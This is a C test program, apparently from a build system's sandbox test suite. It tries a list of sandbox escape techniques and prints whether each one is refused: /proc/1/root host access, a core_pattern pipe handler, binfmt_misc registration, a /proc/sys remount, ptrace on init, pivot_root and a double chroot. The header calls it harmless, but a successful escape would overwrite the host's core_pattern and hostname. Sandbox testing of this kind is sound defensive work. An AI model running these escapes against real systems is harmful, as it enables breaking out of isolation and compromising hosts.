/*
 * What a hostile maintainer script would try from inside the build's sandbox, syscall by
 * syscall (built statically at test time and copied into the tree by an outside hook; test 56).
 * Prints one line per attempt, "NAME: refused (reason)" or "NAME: ESCAPED (...)"; never writes
 * anything harmful where it succeeds (sysrq is opened, never written).
 * Usage: sandbox_attack HOSTDIR
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void say(const char *name, int escaped, const char *what)
{
	printf("%s: %s (%s)\n", name, escaped ? "ESCAPED" : "refused", what);
}

static void result(const char *name, int ok)
{
	say(name, ok, ok ? "it worked" : strerror(errno));
}

static int read_secret(const char *path)
{
	char buf[64] = "";
	int fd = open(path, O_RDONLY), n;

	if (fd < 0)
		return 0;
	n = (int)read(fd, buf, sizeof(buf) - 1);
	close(fd);
	return n > 0 && strstr(buf, "host secret");
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644), ok;

	if (fd < 0)
		return 0;
	ok = write(fd, text, strlen(text)) == (ssize_t)strlen(text);
	close(fd);
	return ok;
}

static void double_chroot(const char *host)
{
	char path[512];
	int i;

	mkdir("/mki56-x", 0755);
	if (chroot("/mki56-x") < 0) {
		result("e1b-double-chroot", 0);
		return;
	}
	for (i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		result("e1b-double-chroot", 0);
		return;
	}
	snprintf(path, sizeof(path), "%s/secret", host);
	say("e1b-double-chroot", read_secret(path), "read the host's secret after two chroots");
}

int main(int argc, char **argv)
{
	const char *host = argc > 1 ? argv[1] : "/nonexistent";
	char path[512];
	int fd;

	snprintf(path, sizeof(path), "/proc/1/root%s/secret", host);
	say("e1-read", read_secret(path), "the host's secret through /proc/1/root");
	snprintf(path, sizeof(path), "/proc/1/root%s/pwned-e1", host);
	result("e1-write", write_file(path, "pwned\n"));
	result("e2-core-pattern", write_file("/proc/sys/kernel/core_pattern", "|/pwn %P\n"));
	mkdir("/tmp/mki56-bm", 0755);
	result("e3-mount-binfmt", mount("binfmt_misc", "/tmp/mki56-bm", "binfmt_misc", 0, NULL) == 0);
	snprintf(path, sizeof(path), ":mki56:M::#!::/mki56-payload:F");
	result("e3-register", write_file("/proc/sys/fs/binfmt_misc/register", path));
	result("h2-remount-proc-sys",
	       mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0);
	result("h2-sysctl-write", write_file("/proc/sys/kernel/hostname", "pwned"));
	fd = open("/proc/sysrq-trigger", O_WRONLY);
	result("sysrq-open", fd >= 0);
	if (fd >= 0)
		close(fd);
	result("unshare-user", unshare(CLONE_NEWUSER) == 0);
	result("mount-tmpfs", mount("none", "/mnt", "tmpfs", 0, NULL) == 0);
	result("pivot-root", syscall(SYS_pivot_root, "/", "/") == 0);
	result("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0) >= 0);
	result("ptrace-init", ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0);
	double_chroot(host); /* last: it changes this process's root */
	return 0;
}
